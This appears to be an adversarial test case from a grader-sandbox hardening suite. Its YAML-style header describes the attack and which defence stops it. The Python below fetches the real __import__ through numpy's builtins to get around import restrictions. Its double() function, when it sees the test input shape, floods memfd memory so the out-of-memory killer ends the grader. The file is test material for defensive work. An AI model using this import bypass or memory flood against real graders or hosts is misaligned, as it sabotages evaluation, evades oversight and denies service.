"""
family: floods
tries: fills memory that belongs to no process, so that the kernel ends the largest, which is the grader
stopped_by: [oom_score]
alone: [rlimits, landlock, seccomp]
shows: lost the grader ended
deserves: 5
bounded: true
named:
  touched: the kernel ends the worker, which is what the layer is for
"""

import numpy as np

real_import = np.__dict__["__builtins__"]["__import__"]
os = real_import("os")
time = real_import("time")
PIECE = bytes(1 << 22)


def fill():
    started = time.monotonic()
    while time.monotonic() < started + 0.7:
        file = os.memfd_create("attack")
        for _ in range(16):
            os.write(file, PIECE)


def double(x):
    if x.shape == (5, 2):
        fill()
    return 2 * x


def total(x):
    return np.sum(x, axis=1)
